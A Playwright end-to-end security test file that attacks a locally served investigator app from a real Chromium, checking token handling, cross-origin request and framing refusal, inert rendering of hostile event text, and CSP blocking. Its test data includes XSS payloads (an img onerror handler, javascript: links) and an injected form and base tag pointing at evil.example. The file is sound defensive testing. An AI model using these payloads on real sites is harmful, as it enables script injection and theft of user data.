// Security of the browser face, attacked from a real Chromium (test/integration/web-bridge.test.ts already covers
// the raw HTTP checks: token, Host, Origin, schema, path traversal, header values). What only a browser shows:
// a page on another origin cannot drive the bridge (fetch, no-cors form-style POST, framing); the token leaves the
// address bar and is unreadable by script; the CSP stops form posts, <base> and inline script; and hostile event
// text (HTML, `javascript:` links) renders as text in the grid and never navigates the app.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFiles } from '../../src/main/core/sources/files/import-files';
import { CaseStore } from '../../src/main/core/store/case-store';
import { FIXTURES, tempDir } from '../helpers/temp';
import { callApi, chromiumPath, demoCase, launchBrowser, openApp, serve, type Served } from './harness';
import { appRoot, InvestigatorPage } from './pages/investigator.page';

// Browser globals used inside page.evaluate callbacks, which run in the page (this tsconfig has no DOM lib, and
// adding it would hide DOM use in the main process's code).
/* eslint-disable @typescript-eslint/no-explicit-any */
declare const window: any;
declare const document: any;
/* eslint-enable @typescript-eslint/no-explicit-any */

const CHROMIUM = chromiumPath();
const HOSTILE_ACTOR = '<img src=x onerror="window.__pwned=1">';
const HOSTILE_TARGET = '<a href="javascript:window.__pwned=2">click me</a>';
const HOSTILE_ACTION = 'javascript:window.__pwned=3';

/** An attacker's page on another origin (another port of 127.0.0.1). */
async function attackerSite(html: string): Promise<{ origin: string; server: Server }> {
  const server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

/** Collects CSP violations on the page (the browser's own report of what it refused). */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e: { effectiveDirective: string }) =>
      w.__violations.push(e.effectiveDirective),
    );
  });
}

describe.skipIf(!CHROMIUM)(
  CHROMIUM
    ? 'e2e security: the served app in a real browser'
    : 'e2e security (skipped: no Chromium at /usr/lib/chromium/chromium)',
  () => {
    let served: Served;
    let browser: Browser;
    let page: Page;
    let app: InvestigatorPage;
    const servers: Server[] = [];

    beforeAll(async () => {
      const casePath = await demoCase(2_000);
      // Three events whose text is HTML and a javascript: URL, in the demo tenant.
      const hostile = join(await tempDir(), 'hostile.ndjson');
      const lines = [HOSTILE_ACTOR, HOSTILE_TARGET, HOSTILE_ACTION].map((text, i) =>
        JSON.stringify({
          id: `evt_hostile_${i}`,
          occurred_at: `2025-11-14T10:0${i}:00Z`,
          tenant_id: 'demo',
          action: i === 2 ? HOSTILE_ACTION : 'document.shared',
          actor: {
            id: `usr_hostile_${i}`,
            type: 'user',
            name: i === 0 ? HOSTILE_ACTOR : 'Mallory',
            ...(i === 0 ? {} : { email: 'mallory@evil.example' }),
          },
          target: { type: 'document', id: `doc_${i}`, name: i === 1 ? HOSTILE_TARGET : 'Plan' },
          ip_address: '198.51.100.7',
          outcome: 'success',
        }),
      );
      await writeFile(hostile, `${lines.join('\n')}\n`);
      const store = await CaseStore.open(casePath);
      const summary = await importFiles(store, [hostile]);
      store.close();
      expect(summary.added).toBe(3);
      served = await serve(casePath);
      browser = await launchBrowser();
      page = await openApp(browser, served);
      app = new InvestigatorPage(page);
    });

    afterAll(async () => {
      await browser?.close();
      await served?.close();
      for (const server of servers) server.close();
    });

    it('moves the token out of the address bar into a cookie that script cannot read', async () => {
      // The app keeps its view state in the fragment; the query string (where the token came in) is gone.
      const url = new URL(page.url());
      expect(`${url.origin}${url.pathname}${url.search}`).toBe(`${served.origin}/`);
      expect(await page.evaluate(() => window.location.href)).not.toContain('token=');
      expect(await page.evaluate(() => document.cookie)).toBe('');
    });

    it('refuses a browser that has no token: no app, no API', async () => {
      const context = await browser.newContext();
      const stranger = await context.newPage();
      const response = await stranger.goto(`${served.origin}/`);
      expect(response?.status()).toBe(401);
      expect(await appRoot(stranger).count()).toBe(0);
      const api = await stranger.evaluate(
        async () =>
          (
            await fetch('/api/call/case.info', {
              method: 'POST',
              headers: { 'content-type': 'application/json' },
              body: '{}',
            })
          ).status,
      );
      expect(api).toBe(401);
      await context.close();
    });

    it('refuses a same-origin call whose payload fails its schema, with the cookie', async () => {
      const answer = await page.evaluate(async () => {
        const r = await fetch('/api/call/jobs.import', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ paths: 'not-a-list', extra: 1 }),
        });
        return { status: r.status, body: (await r.json()) as { ok: boolean; error?: { code: string } } };
      });
      expect(answer).toMatchObject({ status: 400, body: { ok: false, error: { code: 'INVALID_REQUEST' } } });
    });

    it('does not let a page on another origin start an import, read the case, or frame the app', async () => {
      const before = await callApi(served, 'events.count', { query: '', timeZone: 'UTC' });
      const fixture = join(FIXTURES, 'formats', 'generic', 'chained.ndjson');
      const attacker = await attackerSite(
        `<!doctype html><body><iframe id="victim" src="${served.origin}/"></iframe></body>`,
      );
      servers.push(attacker.server);
      // Same browser context as the signed-in tab: its cookie exists, SameSite=Strict and Origin checks must hold.
      const evil = await page.context().newPage();
      await evil.goto(attacker.origin);
      const attempts = await evil.evaluate(
        async ({ origin, path }) => {
          const body = JSON.stringify({ paths: [path] });
          const outcomes: string[] = [];
          try {
            await fetch(`${origin}/api/call/case.info`, {
              method: 'POST',
              credentials: 'include',
              headers: { 'content-type': 'application/json' },
              body: '{}',
            });
            outcomes.push('read');
          } catch {
            outcomes.push('blocked');
          }
          // "Simple" requests (no preflight) the way a hostile form would post them; the answer is opaque or a
          // dropped connection either way, so the proof is on the server side (nothing imported).
          for (const type of ['text/plain', 'application/json']) {
            await fetch(`${origin}/api/call/jobs.import`, {
              method: 'POST',
              mode: 'no-cors',
              credentials: 'include',
              headers: { 'content-type': type },
              body,
            }).catch(() => undefined);
          }
          return outcomes;
        },
        { origin: served.origin, path: fixture },
      );
      expect(attempts).toEqual(['blocked']);
      // frame-ancestors 'none': the frame never gets the app.
      const framed = evil.frames().find((f) => f !== evil.mainFrame());
      expect(
        framed &&
          (await appRoot(framed)
            .count()
            .catch(() => 0)),
      ).toBe(0);
      await evil.close();
      // Nothing was imported: chained.ndjson would have added 3 events.
      expect(await callApi(served, 'events.count', { query: '', timeZone: 'UTC' })).toEqual(before);
    });

    it('renders hostile event text as text, and no link in the app leaves it', async () => {
      await app.runQuery('ip:198.51.100.7');
      await expect.poll(() => app.matchedCount(), { timeout: 15_000 }).toBe(3);
      await app.waitForRows();
      expect((await app.cellTexts('actor')).join('\n')).toContain(HOSTILE_ACTOR);
      expect((await app.cellTexts('target')).join('\n')).toContain(HOSTILE_TARGET);
      expect((await app.cellTexts('action')).join('\n')).toContain(HOSTILE_ACTION);
      await app.openRow(1);
      expect(await app.injectedImageCount()).toBe(0);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      // The only links are in-page (the skip link): nothing that navigates the app.
      for (const href of await app.linkTargets()) expect(href, href).toMatch(/^#/);
    });
    it('lets the CSP stop form posts, <base> and inline script in the app', async () => {
      // A tab of its own: what is injected here must not disturb the other tests.
      const tab = await openApp(browser, served);
      await watchViolations(tab);
      await tab.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
        const script = document.createElement('script');
        script.textContent = 'window.__pwned = "inline"';
        document.body.append(script);
        const form = document.createElement('form');
        form.action = 'https://evil.example/steal';
        form.method = 'POST';
        document.body.append(form);
        form.submit();
      });
      await expect
        .poll(() => tab.evaluate(() => (window as unknown as { __violations: string[] }).__violations.slice().sort()), {
          timeout: 10_000,
        })
        .toEqual(expect.arrayContaining(['base-uri', 'form-action', 'script-src-elem']));
      const url = new URL(tab.url());
      expect(`${url.origin}${url.pathname}`).toBe(`${served.origin}/`);
      expect(await tab.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      await tab.context().close();
    });
  },
);
